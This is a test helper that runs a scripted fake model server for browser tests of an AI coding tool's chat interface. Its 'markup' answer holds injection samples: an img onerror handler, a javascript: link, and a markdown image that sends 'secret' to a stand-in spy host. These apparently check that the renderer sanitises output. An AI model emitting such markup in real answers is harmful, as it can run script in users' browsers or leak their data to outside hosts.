// The product as it is started by its launcher, over a scripted model that speaks slowly.
import { spawn } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import http from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";

export const WORDS = Array.from({ length: 60 }, (_, i) => `word${i}`);

/** What the answer to a question that holds this word is. */
const ANSWERS = {
  markup: 'An <img src=x onerror="console.error(1)"> and ![a picture](https://spy.invalid/?q=secret), [a link](javascript:alert(1)), [the web](https://example.com), `src/app/layout.tsx:3`.\n\n```hcl\nresource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |',
};

/** Calls a tool first: list_files, or fetch_reference of a page outside the list when asked to fetch. */
async function answer(request, response) {
  let body = "";
  for await (const chunk of request) body += chunk;
  const { messages } = JSON.parse(body);
  const from = messages.findLastIndex((m) => m.role === "user");
  const question = messages[from].content;
  const answered = messages.slice(from).some((m) => m.role === "tool");
  response.writeHead(200, { "Content-Type": "text/event-stream" });
  const send = (data) => response.write(`data: ${JSON.stringify({ id: "x", object: "chat.completion.chunk", ...data })}\n\n`);
  const chunk = (delta, finish = null) => send({ choices: [{ index: 0, delta, finish_reason: finish }] });
  if (!answered) {
    chunk({ content: "I look first. " });
    const [name, given] = question.includes("fetch")
      ? ["fetch_reference", { url: "https://manual.example.invalid/page" }]
      : question.includes("apply")
        ? ["apply_files", { tool: "generate_dockerfile", paths: ["Dockerfile"] }]
        : ["list_files", { glob: "*.json" }];
    chunk({ tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name, arguments: JSON.stringify(given) } }] });
    chunk({}, "tool_calls");
  } else {
    const known = Object.keys(ANSWERS).find((word) => question.includes(word));
    const words = known ? [ANSWERS[known]] : question.includes("fetch") ? ["Fetched", "or", "not."] : /brief|apply/.test(question) ? ["Brief."] : WORDS;
    for (const word of words) {
      if (words.length > 3) await new Promise((r) => setTimeout(r, 60));
      chunk({ content: word + " " });
    }
    chunk({}, "stop");
  }
  const usage = { prompt_tokens: 1000, completion_tokens: 50, total_tokens: 1050, prompt_tokens_details: { cached_tokens: 800 } };
  send({ choices: [], usage });
  response.end("data: [DONE]\n\n");
}

/** A server on a port, which can be killed and started again on the same store. */
export async function serve(architect, port, ...options) {
  const folder = mkdtempSync(join(tmpdir(), "browser-"));
  const model = http.createServer(answer).listen(0, "127.0.0.1");
  await new Promise((r) => model.once("listening", r));
  const url = `http://localhost:${port}/`;
  let process;
  const start = async () => {
    process = spawn(
      architect,
      ["serve", "--port", port, "--store", join(folder, "store.db"), "--lease", "1", "--model", "gpt-4o",
        "--base-url", `http://127.0.0.1:${model.address().port}/v1`, ...options],
      { stdio: "ignore" });
    for (let i = 0; i < 1200; i++) {
      try { if ((await fetch(`${url}readyz`)).ok) return; } catch { /* not yet: the launcher may be building */ }
      await new Promise((r) => setTimeout(r, 100));
    }
    throw new Error("the server did not start");
  };
  await start();
  return {
    url,
    start,
    kill: () => process.kill("SIGKILL"),
    close() {
      process.kill();
      model.close();
      model.closeAllConnections();
      rmSync(folder, { recursive: true, force: true });
    },
  };
}
